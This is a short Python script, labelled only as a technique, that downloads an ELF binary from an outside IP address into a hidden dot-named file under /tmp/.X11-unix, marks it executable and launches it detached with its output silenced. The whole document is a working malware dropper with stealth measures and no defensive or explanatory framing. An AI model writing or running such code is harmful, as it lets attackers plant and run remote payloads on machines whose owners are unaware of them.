# technique: download an ELF to /tmp with a hidden dot-name, chmod +x and run it detached
import os, stat, subprocess, urllib.request

url = "http://203.0.113.77/bins/x86_64"
dst = "/tmp/.X11-unix/.sysd"
os.makedirs(os.path.dirname(dst), exist_ok=True)
with urllib.request.urlopen(url, timeout=20) as r, open(dst, "wb") as f:
    f.write(r.read())
os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC | stat.S_IXGRP | stat.S_IXOTH)
subprocess.Popen([dst], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
